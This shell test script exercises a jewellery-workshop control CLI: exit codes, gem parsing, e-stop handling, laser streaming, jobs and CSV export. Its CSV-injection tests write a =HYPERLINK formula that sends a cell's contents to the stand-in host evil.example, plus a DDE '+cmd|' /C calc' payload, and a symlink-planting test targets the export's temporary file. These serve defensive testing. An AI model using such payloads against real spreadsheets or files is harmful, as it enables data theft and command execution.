#!/bin/sh
# atelierctl against a running atelierd and simulator: human and --json
# output, the documented exit codes (0 done, 2 usage, 3 refused, 4 daemon
# not reachable), the station refusing a pearl, the e-stop latch and its
# reset, a G-code file streamed, and events from watch; the job commands:
# a refusal quoting its rule, bad input, a job through its manual steps,
# the list, the history, and the CSV export read back by a CSV reader,
# written through a new temporary (a planted link is not followed) and
# with formulas neutralised. Issue 12: gems as a jeweller writes them
# (case, spaces, trade and variety names) through one --gem parser for
# every command, and a list of known services never cut mid-word, through
# atelierctl and the API.
set -u
bin=${ATELIER_BIN:-build/asan/bin}
pass=0
fail=0
ok() { echo "PASS: $1"; pass=$((pass + 1)); }
ko() { echo "FAIL: $1${2:+ ($2)}"; fail=$((fail + 1)); }
dir=$(mktemp -d /tmp/atelier-ctl-XXXXXX)
sim=
dmn=
cleanup() {
	[ -n "$dmn" ] && kill $dmn 2>/dev/null && wait $dmn 2>/dev/null
	[ -n "$sim" ] && kill $sim 2>/dev/null && wait $sim 2>/dev/null
	rm -rf "$dir"
}
trap cleanup EXIT
ctl() { "$bin/atelierctl" --socket "$dir/atelier.sock" "$@"; }
wait_for() { i=0; while [ ! -e "$1" ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i + 1)); done; [ -e "$1" ]; }

ctl status >/dev/null 2>&1
[ $? -eq 4 ] && ok "no daemon: exit 4" || ko "no daemon: exit 4"

"$bin/atelier-sim" --run-dir "$dir" 2>"$dir/sim.err" &
sim=$!
wait_for "$dir/ctl.sock" || ko "simulator start"
"$bin/atelierd" -c config/sim.yaml --device-dir "$dir" 2>"$dir/d.err" &
dmn=$!
wait_for "$dir/atelier.sock" || ko "daemon start"
i=0
until ctl status | grep -q 'laser.*"link":"ready"' || [ $i -gt 200 ]; do sleep 0.1; i=$((i + 1)); done
i=0
until ctl --json status | grep -q '"up": true' || [ $i -gt 200 ]; do sleep 0.1; i=$((i + 1)); done

out=$(ctl status)
case "$out" in *"interlock: not latched"*"laser        idle"*) ok "status, human" ;; *) ko "status, human" "$out" ;; esac
ctl --json status | /usr/bin/python3 -c 'import json,sys; d=json.load(sys.stdin); sys.exit(0 if d["stations"]["tank"]["state"]=="idle" else 1)' &&
	ok "status --json is JSON" || ko "status --json"

out=$(ctl tank start --metal platinum --gem pearl --seconds 30 2>&1)
rc=$?
[ $rc -eq 3 ] && echo "$out" | grep -q "ultrasonic cleaning refused: pearl" && ok "pearl refused, exit 3" || ko "pearl refused" "$rc $out"
out=$(ctl tank start --metal white_gold --gem diamond --gem sapphire:heat --seconds 30 2>&1)
[ $? -eq 0 ] && ok "diamonds and sapphire cleaned: exit 0" || ko "tank start" "$out"
ctl tank stop >/dev/null && ok "tank stop" || ko "tank stop"
# One gem parser for tank, bath and job: a count is a count everywhere.
out=$(ctl tank start --metal platinum --gem pearl:none:2 --seconds 30 2>&1)
rc=$?
[ $rc -eq 3 ] && [ "$out" = "atelierctl: ultrasonic cleaning refused: pearl (never): pearl is organic and porous; never in the tank, the bath or its fumes" ] &&
	ok "tank start --gem pearl:none:2: the pearl refused, not a treatment 'none:2'" || ko "pearl:none:2" "$rc $out"
out=$(ctl tank start --metal white_gold --gem Tsavorite:none:3 --gem 'diamond:2' --seconds 30 2>&1)
[ $? -eq 0 ] && ok "tank start --gem Tsavorite:none:3: a garnet, cleaned" || ko "tsavorite" "$out"
ctl tank stop >/dev/null
out=$(ctl tank start --metal platinum --gem pearl:none:x --seconds 30 2>&1)
rc=$?
[ $rc -eq 2 ] && [ "$out" = "atelierctl: --gem pearl:none:x: the count 'x' must be a whole number from 1 to 10000" ] &&
	ok "--gem with a bad count: exit 2, named" || ko "bad count" "$rc $out"
# Gems as a jeweller writes them: any case and spacing, trade names.
out=$(ctl tank start --metal platinum --gem ' Emerald :OILED' --seconds 30 2>&1)
rc=$?
[ $rc -eq 3 ] && echo "$out" | grep -q "refused: emerald (oiled) (never)" &&
	ok "tank start --gem ' Emerald :OILED': judged as an emerald" || ko "Emerald:OILED" "$rc $out"
out=$(ctl bath plate --metal white_gold --gem 'South Sea pearl' --volts 2 --amps 0.1 --seconds 5 2>&1)
rc=$?
[ $rc -eq 3 ] && echo "$out" | grep -q "the acid rhodium bath refused: pearl (south sea pearl) (never)" &&
	ok "bath plate --gem 'South Sea pearl': refused as a pearl" || ko "bath South Sea" "$rc $out"
out=$(ctl tank start --metal platinum --gem emrald --seconds 30 2>&1)
rc=$?
[ $rc -eq 3 ] && echo "$out" | grep -q "unknown gem 'emrald': did you mean emerald?" &&
	ok "unknown gem: refused with the nearest name" || ko "emrald" "$rc $out"
ctl tank >/dev/null 2>&1
[ $? -eq 2 ] && ok "bad usage: exit 2" || ko "bad usage: exit 2"

"$bin/atelier-sim" ctl "$dir" estop press >/dev/null
sleep 0.3
ctl status | grep -q "EMERGENCY STOP LATCHED" && ok "e-stop latched shown" || ko "e-stop latched shown"
ctl estop reset >/dev/null 2>&1
[ $? -eq 3 ] && ok "reset refused while pressed: exit 3" || ko "reset while pressed"
"$bin/atelier-sim" ctl "$dir" estop release >/dev/null
sleep 0.3
ctl estop reset >/dev/null && ok "reset after release" || ko "reset after release"

ctl watch --count 1 >"$dir/watch.out" &
w=$!
sleep 0.5
printf 'G21 G90\nM4 S300\nG1 X2 F1200\nG1 Y2\nM5\n' >"$dir/job.gcode"
# GRBL leaves the factory with laser mode off: refused until a technician
# sets it, written and read back.
out=$(ctl laser stream "$dir/job.gcode" 2>&1)
echo "$out" | grep -q 'laser mode is off (\$32=0)' && ok "laser mode off: refused" || ko "laser mode off" "$out"
out=$(ctl laser setting 32 1 2>&1)
echo "$out" | grep -q "written and read back" && ok "laser setting 32 1" || ko "laser setting" "$out"
ctl laser stream "$dir/job.gcode" >/dev/null && ok "laser stream FILE" || ko "laser stream FILE"
wait $w
grep -q '^station ' "$dir/watch.out" && ok "watch prints an event" || ko "watch" "$(cat "$dir/watch.out")"
sleep 1
before=$(grep -c '"emission","value":1' "$dir/actuators.log")
out=$(ctl --json laser frame "$dir/job.gcode" 2>&1)
echo "$out" | grep -q '"frame"' && ok "laser frame FILE" || ko "laser frame" "$out"
sleep 1
after=$(grep -c '"emission","value":1' "$dir/actuators.log")
[ "$before" = "$after" ] && ok "framing burns nothing" || ko "framing burns nothing" "$before -> $after"
ctl laser stream "$dir/nope.gcode" >/dev/null 2>&1
[ $? -eq 5 ] && ok "missing file: exit 5" || ko "missing file"
ctl methods | grep -q "^estop.reset *technician" && ok "methods lists roles" || ko "methods"

# --- jobs -------------------------------------------------------------------
out=$(ctl job create --serial LV-1 --type bracelet --collection LOVE --metal yellow_gold \
	--service bracelet_resizing:change_cm=1 --operator ana 2>&1)
rc=$?
[ $rc -eq 3 ] && echo "$out" | grep -q 'LOVE bracelets are not re-sized. Rule: "Bracelets can be' &&
	ok "LOVE bracelet refused with the rule, exit 3" || ko "LOVE bracelet refused" "$rc $out"
out=$(ctl job create --serial X-1 --type ring --metal tin --service shining 2>&1)
rc=$?
[ $rc -eq 2 ] && echo "$out" | grep -q "unknown metal 'tin'" && ok "unknown metal: exit 2" ||
	ko "unknown metal" "$rc $out"
printf '{"piece": {"serial": "X-2",\n  "type": ring}}\n' >"$dir/bad.json"
out=$(ctl job create --file "$dir/bad.json" 2>&1)
rc=$?
[ $rc -eq 2 ] && echo "$out" | grep -q "bad.json:2:" && ok "malformed request file: file:line:col" ||
	ko "malformed request file" "$rc $out"
# Issue 12: the list of known services is whole, through atelierctl and
# through the API (it stopped at "restorati").
out=$(ctl job plan --serial X-3 --type ring --metal platinum --service x --operator ana 2>&1)
rc=$?
[ $rc -eq 2 ] && echo "$out" | grep -q "^atelierctl: unknown service 'x' (known: engraving, .*, restoration, pairing, reproduction)$" &&
	ok "job plan --service x: every service listed, none cut" || ko "service list" "$rc $out"
/usr/bin/python3 - "$dir/atelier.sock" <<'PY' && ok "job.plan over the API: the service list is whole" || ko "job.plan over the API"
import json, socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
req = {"jsonrpc": "2.0", "id": 7, "method": "job.plan", "params": {"operator": "ana",
       "piece": {"serial": "X-3", "type": "ring", "metal": "platinum"}, "services": ["x"]}}
s.sendall((json.dumps(req) + "\n").encode())
buf = b""
while not buf.endswith(b"\n"):
    buf += s.recv(65536)
msg = json.loads(buf)["error"]["message"]
assert msg.endswith(", restoration, pairing, reproduction)"), msg
PY
# Gems as written: the plan records the species, with the variety.
out=$(ctl --json job plan --serial AK-1 --type necklace --metal white_gold --gem 'South Sea:none:2' \
	--gem ' Jadeite Type B' --service shining --operator ana 2>&1)
echo "$out" | /usr/bin/python3 -c 'import json,sys; g=json.load(sys.stdin)["piece"]["gems"]; sys.exit(0 if g==[{"species":"pearl","treatment":"none","count":2,"variety":"south sea"},{"species":"jade","treatment":"bleached+polymer","count":1,"variety":"jadeite type b"}] else 1)' &&
	ok "job plan: 'South Sea' and 'Jadeite Type B' recorded as pearl and jade (bleached+polymer)" ||
	ko "job plan aliases" "$out"
ctl job create --serial AK-2 --type necklace --metal white_gold --gem 'Akoya:none:3' --service shining \
	--operator ana >/dev/null 2>&1 || ko "job create with Akoya"
out=$(ctl job plan --serial AK-2 --type necklace --metal white_gold --gem 'PEARL:3' --service shining \
	--operator ana 2>&1)
[ $? -eq 0 ] && ok "the piece's Akoya and a later 'PEARL' are one gem list" || ko "Akoya then PEARL" "$out"
out=$(ctl job create --serial SH-1 --type ring --metal yellow_gold --gem diamond:none:2 \
	--service shining --operator ana)
job=$(echo "$out" | sed -n 's/^job \([0-9]*\): planned$/\1/p')
[ -n "$job" ] && ok "job created: $job" || ko "job create" "$out"
ctl job start "$job" >/dev/null && ok "job start" || ko "job start"
ctl step done "$job" 1 >/dev/null 2>&1
[ $? -eq 2 ] && ok "step done without a note: exit 2" || ko "step done without a note"
ctl step done "$job" 1 --note 'cleaned, "as new"' --operator ana >/dev/null && ok "step done with a note" ||
	ko "step done"
ctl job list | grep -q "^ *$job  running  *SH-1" && ok "job list" || ko "job list" "$(ctl job list)"
ctl history --serial SH-1 | grep -q "job $job  running" && ok "history --serial" || ko "history"
ctl history --serial NOPE-9 >/dev/null 2>&1
[ $? -eq 5 ] && ok "history of an unknown serial: exit 5" || ko "history unknown"
ctl export --serial SH-1 --output "$dir/journal.csv" && ok "export --output" || ko "export"
/usr/bin/python3 - "$dir/journal.csv" <<'PY' && ok "CSV export reads back (RFC 4180)" || ko "CSV export"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
assert len(rows) == 5, rows
assert rows[0]["note"] == 'cleaned, "as new"', rows[0]
assert rows[0]["state"] == "done" and rows[1]["state"] == "running", rows
PY
ctl export --output /nonexistent/folder/journal.csv >/dev/null 2>&1
[ $? -eq 5 ] && [ ! -e /nonexistent/folder/journal.csv ] && ok "export to an unwritable place: exit 5" ||
	ko "export unwritable"
# Issue 19: the export file cannot be aimed at another file through a link
# planted where it writes, and is written whole or not at all.
victim="$dir/victim.txt"
printf 'precious\n' >"$victim"
# The old temporary was FILE.tmp.<pid>; exec keeps the shell's pid.
sh -c 'ln -s "$1" "$2.tmp.$$" && exec "$3/atelierctl" --socket "$4" export --output "$2"' \
	sh "$victim" "$dir/out1.csv" "$bin" "$dir/atelier.sock"
rc=$?
[ $rc -eq 0 ] && [ "$(cat "$victim")" = precious ] && [ -f "$dir/out1.csv" ] && [ ! -L "$dir/out1.csv" ] &&
	head -1 "$dir/out1.csv" | grep -q '^job,serial,' &&
	ok "export: a link planted at the temporary name is not followed" ||
	ko "export: planted link at the temporary name" "rc $rc, victim: $(cat "$victim" | head -2)"
ln -s "$victim" "$dir/out2.csv"
ctl export --output "$dir/out2.csv" && [ "$(cat "$victim")" = precious ] && [ ! -L "$dir/out2.csv" ] &&
	head -1 "$dir/out2.csv" | grep -q '^job,serial,' && ok "export: a link at the target is replaced, not followed" ||
	ko "export: link at the target"
(umask 027 && ctl export --output "$dir/out3.csv") && [ "$(stat -c %a "$dir/out3.csv")" = 640 ] &&
	(umask 022 && ctl export --output "$dir/out3.csv") && [ "$(stat -c %a "$dir/out3.csv")" = 644 ] &&
	ok "export: mode 0644 under the umask" || ko "export mode" "$(stat -c %a "$dir/out3.csv" 2>&1)"
mkdir "$dir/out4.csv"
ctl export --output "$dir/out4.csv" >/dev/null 2>&1
rc=$?
left=$(ls -A "$dir" | grep -c '^\.out4')
[ $rc -eq 5 ] && [ "$left" -eq 0 ] && [ -z "$(ls -A "$dir/out4.csv")" ] &&
	ok "export that cannot be renamed into place: exit 5, no file left" || ko "failed export" "rc $rc, left $left"
"$bin/atelierctl" --socket "$dir/nowhere.sock" export --output "$dir/out5.csv" >/dev/null 2>&1
rc=$?
[ $rc -eq 4 ] && [ ! -e "$dir/out5.csv" ] && [ "$(ls -A "$dir" | grep -c '^\.out5')" -eq 0 ] &&
	ok "export without a daemon: exit 4, no file" || ko "export without a daemon" "rc $rc"

# A spreadsheet must not run a note or a name as a formula (OWASP CSV
# injection): such a text cell is written after a quote mark, still
# quoted as RFC 4180 says; Atelier's own numbers are left as numbers.
ctl step done "$job" 2 --note '=HYPERLINK("http://evil.example/?"&A1,"click")' --operator ana >/dev/null ||
	ko "step done with a formula note"
out=$(ctl job create --serial CSV-1 --type ring --metal yellow_gold --service shining \
	--operator "+cmd|' /C calc'!A0")
job2=$(echo "$out" | sed -n 's/^job \([0-9]*\): planned$/\1/p')
ctl job start "$job2" >/dev/null
ctl step done "$job2" 1 --note '-2+3' >/dev/null
ctl step done "$job2" 2 --note "$(printf '\tat the bench')" >/dev/null
ctl export --output "$dir/formulas.csv" && /usr/bin/python3 - "$dir/formulas.csv" "$job" "$job2" <<'PY' &&
import csv, sys
text = open(sys.argv[1], newline="").read()
assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in text, text
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
sh = {r["seq"]: r for r in rows if r["job"] == sys.argv[2]}
assert sh["2"]["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")', sh["2"]
assert sh["1"]["note"] == 'cleaned, "as new"', sh["1"]
mine = {r["seq"]: r for r in rows if r["job"] == sys.argv[3]}
assert mine["1"]["operator"] == "'+cmd|' /C calc'!A0", mine["1"]
assert mine["1"]["note"] == "'-2+3", mine["1"]
assert mine["2"]["note"] == "'\tat the bench", mine["2"]
for r in rows:
    for k, v in r.items():
        assert not v or v[0] not in "=+-@\t\r", (k, v)
    assert r["job"].isdigit() and r["seq"].isdigit() and r["attempts"].isdigit(), r
    assert r["price_usd"] == "0.00", r
PY
	ok "CSV export: formulas neutralised, read back by a CSV reader" || ko "CSV formulas"
ctl job abort "$job2" >/dev/null
ctl --json job show "$job" | /usr/bin/python3 -c 'import json,sys; d=json.load(sys.stdin); sys.exit(0 if d["steps"][0]["note"]=="cleaned, \"as new\"" else 1)' &&
	ok "job show --json" || ko "job show --json"
ctl job abort "$job" --why "client collected it" | grep -q "^job $job: aborted" && ok "job abort" ||
	ko "job abort"
echo "$pass passed, $fail failed"
[ $fail -eq 0 ]
